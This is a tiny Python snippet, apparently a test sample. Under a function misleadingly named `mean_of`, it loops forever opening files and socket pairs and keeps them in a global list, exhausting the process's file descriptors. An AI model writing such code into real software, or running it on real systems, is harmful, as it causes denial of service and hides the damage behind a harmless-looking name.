"""Open files and sockets until there are none left, and keep them."""

# %%
import socket

KEPT = []


def mean_of(values):
    while True:
        KEPT.extend((open("/dev/null"), socket.socketpair()))
